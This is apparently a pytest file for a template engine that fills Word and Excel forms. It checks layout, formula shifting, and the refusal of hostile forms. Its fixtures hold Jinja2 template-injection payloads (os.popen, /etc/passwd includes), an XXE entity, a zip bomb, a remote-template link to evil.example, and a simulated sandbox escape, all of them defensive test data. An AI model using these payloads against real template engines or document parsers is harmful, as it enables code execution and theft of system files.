"""The organiser's own forms: filled as they are, read behind walls, hostile ones refused in words."""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile
from collections.abc import Callable
from typing import Any

import docx
import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from fengcai.engines.documents.forms import FormRefused, fill, inspect, show, words
from fengcai.engines.documents.forms.inserting import moved
from fengcai.engines.documents.forms.marks import Unfit

pytestmark = [pytest.mark.intake, pytest.mark.clause("J12")]

WORKS = [
    {"编号": "001", "作品名称": "心跳的守护", "件数": 2},
    {"编号": "002", "作品名称": "=1+1", "件数": 3},
    {"编号": "003", "作品名称": "<b>&{{单位}}", "件数": 5},
]
CONTEXT = {"单位": "心病科 & 卒中中心", "作品": WORKS}


def paper(*lines: str, rows: tuple[str, ...] = ()) -> bytes:
    made, out = docx.Document(), io.BytesIO()
    for line in lines:
        made.add_paragraph(line)
    if rows:
        table = made.add_table(rows=len(rows), cols=2)
        for row, text in zip(table.rows, rows, strict=True):
            for cell, part in zip(row.cells, text.split("|"), strict=True):
                cell.text = part
    made.save(out)
    return out.getvalue()


def book(change: Callable[[Any], None]) -> bytes:
    made, out = Workbook(), io.BytesIO()
    change(made.active)
    made.save(out)
    return out.getvalue()


def summary(sheet: Any) -> None:
    """A 汇总表 as offices make them: a merged title, a head, one row to repeat, a sum, a signature."""
    sheet.title = "汇总表"
    sheet.merge_cells("A1:E1")
    sheet["A1"] = "{{ 单位 }}作品汇总表"
    sheet["A1"].font = Font(name="方正小标宋简体", size=22)
    sheet.append(["编号", "作品名称", "", "件数", "合计"])
    sheet.merge_cells("B2:C2")
    sheet.append(["{{作品.编号}}", "{{ 作品.作品名称 }}", None, "{{作品.件数}}", "=SUM(D3:D3)*2"])
    sheet.merge_cells("B3:C3")
    sheet.append(["合计", None, None, "=SUM(D3:D3)", "=E3"])
    sheet.append(["负责人：", None, None, None, None])
    sheet.merge_cells("A5:E5")
    for row, height in ((1, 40), (3, 31.5), (5, 60)):
        sheet.row_dimensions[row].height = height
    sheet["A3"].fill = PatternFill("solid", fgColor="FFEE00")
    sheet.print_area = "A1:E5"
    sheet.print_title_rows = "1:2"
    sheet.page_setup.orientation = "landscape"
    rule = DataValidation(type="list", formula1='"甲,乙"')
    rule.add("D3:D3")
    sheet.add_data_validation(rule)
    sheet.parent.defined_names["总数"] = DefinedName("总数", attr_text="汇总表!$D$4")


def test_a_workbook_keeps_its_shape_when_its_row_is_repeated() -> None:
    (done,) = fill(book(summary), "汇总表.xlsx", [CONTEXT])
    made = load_workbook(io.BytesIO(done))
    sheet = made.active
    assert sheet["A1"].value == "心病科 & 卒中中心作品汇总表"
    assert (sheet["A1"].font.name, sheet["A1"].font.size) == ("方正小标宋简体", 22)
    assert [sheet.cell(r, 1).value for r in range(3, 8)] == [
        "001",
        "002",
        "003",
        "合计",
        "负责人：",
    ]
    assert [sheet.cell(r, 4).value for r in range(3, 7)] == [2, 3, 5, "=SUM(D3:D5)"]
    assert [sheet.cell(r, 5).value for r in range(3, 7)] == [
        "=SUM(D3:D3)*2", "=SUM(D4:D4)*2", "=SUM(D5:D5)*2", "=E3",
    ]  # fmt: skip
    assert (sheet["B4"].value, sheet["B4"].data_type) == ("=1+1", "s")
    assert sheet["B5"].value == "<b>&{{单位}}"
    assert {str(each) for each in sheet.merged_cells.ranges} == {
        "A1:E1", "B2:C2", "B3:C3", "B4:C4", "B5:C5", "A7:E7",
    }  # fmt: skip
    heights = [sheet.row_dimensions[row].height for row in range(1, 8)]
    assert heights == [40, None, 31.5, 31.5, 31.5, None, 60]
    assert sheet["A5"].fill.fgColor.rgb == "00FFEE00"
    assert sheet.print_area.replace("$", "").endswith("A1:E7")
    assert sheet.print_title_rows.replace("$", "") == "1:2"
    assert sheet.page_setup.orientation == "landscape"
    assert str(sheet.data_validations.dataValidation[0].sqref) == "D3:D5"
    assert made.defined_names["总数"].attr_text == "汇总表!$D$6"


def test_an_empty_list_leaves_an_empty_row() -> None:
    (done,) = fill(book(summary), "汇总表.xlsx", [{"单位": "甲", "作品": []}])
    sheet = load_workbook(io.BytesIO(done)).active
    assert [cell.value for cell in sheet[3]][:4] == [None, None, None, None]
    assert sheet["A4"].value == "合计" and sheet.print_area.endswith("$E$5")


def test_one_workbook_with_a_sheet_for_each() -> None:
    contexts = [{**CONTEXT, "单位": name} for name in ("甲", "乙/丙", "甲")]
    (done,) = fill(book(summary), "x.xlsx", contexts, together=["甲", "乙/丙", "甲"])
    made = load_workbook(io.BytesIO(done))
    assert made.sheetnames == ["甲", "乙 丙", "甲(2)"]
    assert [sheet["A1"].value for sheet in made] == [
        "甲作品汇总表",
        "乙/丙作品汇总表",
        "甲作品汇总表",
    ]
    assert all(s.print_area.endswith("$E$7") and len(s.merged_cells.ranges) == 6 for s in made)


@pytest.mark.parametrize(
    ("formula", "after_two"),
    [
        ("=A9", "=A11"),
        ("=$A$5", "=$A$5"),
        ("=SUM(A1:A5)", "=SUM(A1:A7)"),
        ("=SUM(A6:A9)", "=SUM(A8:A11)"),
        ("=SUM(5:5)", "=SUM(5:7)"),
        ("=SUM(A:A)", "=SUM(A:A)"),
        ("='汇 总'!A9+Sheet1!A9", "='汇 总'!A11+Sheet1!A9"),
        ('=IF(A9="A9",B2,"x")', '=IF(A11="A9",B2,"x")'),
    ],
)
def test_formulas_follow_the_rows(formula: str, after_two: str) -> None:
    assert moved(formula, title="汇 总", here=True, after=5, count=2) == after_two


def test_a_word_form_is_filled_with_rows_and_conditions() -> None:
    form = paper(
        "单位：{{ 单位 }}",
        "{% if 作品|length > 2 %}多于两件{% endif %}",
        rows=(
            "编号|名称",
            "{%tr for 件 in 作品 %}|",
            "{{ 件.编号 }}|{{ 件.作品名称 }}",
            "{%tr endfor %}|",
        ),
    )
    assert inspect(form, "登记表.docx").used == ("单位", "作品", "作品.编号", "作品.作品名称")
    first, second = fill(form, "登记表.docx", [CONTEXT, {"单位": "乙", "作品": []}])
    rows = show(first, "登记表.docx")
    assert rows[0] == ["单位：心病科 & 卒中中心"] and rows[1] == ["多于两件"]
    assert rows[2:] == [
        ["编号", "名称"],
        ["001", "心跳的守护"],
        ["002", "=1+1"],
        ["003", "<b>&{{单位}}"],
    ]
    assert show(second, "登记表.docx") == [["单位：乙"], ["编号", "名称"]]


def test_texts_that_no_document_holds_are_cleaned() -> None:
    (done,) = fill(paper("{{ 单位 }}"), "a.docx", [{"单位": "甲\x00\x0b\ufffe乙\n丙"}])
    assert show(done, "a.docx") == [["甲乙\n丙"]]


HOSTILE = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ 单位.__class__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% macro a() %}{{ a() }}{% endmacro %}",
    "{% for x in range(999999999) %}x{% endfor %}",
    "{{ lipsum() }}",
    "{{ 'x' * 999999999 }}",
    "{{ 单位|attr('__class__') }}",
    "{{ 单位|pprint }}",
    "{{ 单位['x'] }}",
    "{% set a = 1 %}",
    "{{ 单位 ",
    "{% for x in 作品 %}",
    "{% for a in 作品 %}{% for b in 作品 %}{% for c in 作品 %}{% endfor %}{% endfor %}{% endfor %}",
)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_or_broken_mark_is_refused_in_words(hostile: str) -> None:
    for task in (words.used, lambda data: words.filled(data, CONTEXT)):
        with pytest.raises(Unfit, match="模板"):
            task(paper(hostile))


def test_the_child_says_why_it_refuses() -> None:
    with pytest.raises(FormRefused, match="不能调用函数或引用别的文件"):
        list(fill(paper("{% include '/etc/passwd' %}"), "坏.docx", [CONTEXT]))


WALLED = """
import sys
from fengcai.engines.documents.forms import child, words
from fengcai.media.containment import contain
child._words()
contain(memory_bytes=child.MEMORY_BYTES, cpu_s=child.CPU_S, open_files=child.OPEN_FILES)
words.LET = object  # as if the words that are let in had a hole
import jinja2.nodes
words.ImmutableSandboxedEnvironment = __import__("jinja2").Environment
data = sys.stdin.buffer.read()
words._look_through = lambda tree: None
words.filled(data, {"单位": "x", "open": open})
"""


def test_behind_a_hole_in_the_sandbox_stand_the_walls() -> None:
    """A form that gets as far as calling open() opens nothing."""
    done = subprocess.run(
        [sys.executable, "-c", WALLED],
        input=paper("{{ open('/etc/passwd').read() }}"),
        capture_output=True,
        check=False,
    )
    assert done.returncode == 1
    assert b"PermissionError: [Errno 1]" in done.stderr and b"root:" not in done.stderr


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


BOMB = b"<w:document>" + b" " * (70 * 1024 * 1024)
ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>&f;</w:t></w:r></w:p></w:body></w:document>"
)


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "空的"),
        (b"PK\x03\x04 not a zip", "已经损坏"),
        (b"%PDF-1.7", "不是 .docx"),
        (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600, "旧版 Office"),
        (b"x" * (5 * 1024**2 + 1), "超过 5 MB"),
        (zipped({"word/document.xml": BOMB}), "解开后太大"),
        (zipped({"word/document.xml": b"<x/>", "word/vbaProject.bin": b""}), "宏"),
        (
            zipped({
                "word/document.xml": b"<x/>",
                "word/_rels/settings.xml.rels": b'<Relationship Type="x/attachedTemplate" '
                b'Target="http://evil.example/t.dotm" TargetMode="External"/>',
            }),
            "引用了外部",
        ),
        (zipped({"a.txt": b"x"}), "不是 Word 文档"),
        (zipped({"word/document.xml": ENTITIES}), "打不开"),
        (zipped({"xl/workbook.xml": b"<workbook/>"}), "打不开"),
    ],
)  # fmt: skip
def test_what_is_no_form_is_refused_in_words(data: bytes, said: str) -> None:
    with pytest.raises(FormRefused, match=said):
        inspect(data, "模板")


def test_an_entity_brings_no_file_in() -> None:
    """The same entity in a document that opens: nothing of the file stands in what comes out."""
    form = paper("{{ 单位 }}")
    parts = {}
    with zipfile.ZipFile(io.BytesIO(form)) as archive:
        for name in archive.namelist():
            parts[name] = archive.read(name)
    parts["word/document.xml"] = ENTITIES
    with pytest.raises(FormRefused) as refused:
        (done,) = fill(zipped(parts), "x.docx", [CONTEXT])
        assert "root:" not in str(show(done, "x.docx"))
        raise FormRefused("filled without it")
    assert "root:" not in str(refused.value)


def test_two_lists_in_one_row_are_named() -> None:
    def two(sheet: Any) -> None:
        sheet.append(["{{作品.编号}}", "{{人员.姓名}}"])

    with pytest.raises(FormRefused, match="第 1 行同时用了"):
        list(fill(book(two), "x.xlsx", [{"作品": [], "人员": []}]))


def test_a_mark_that_is_no_name_is_shown() -> None:
    with pytest.raises(FormRefused, match="不是一个字段名"):
        inspect(book(lambda sheet: sheet.append(["{{ 1+1 }}"])), "x.xlsx")
    assert inspect(book(lambda s: s.append(["｛｛ 单位 ｝｝"])), "x.xlsx").used == ("单位",)
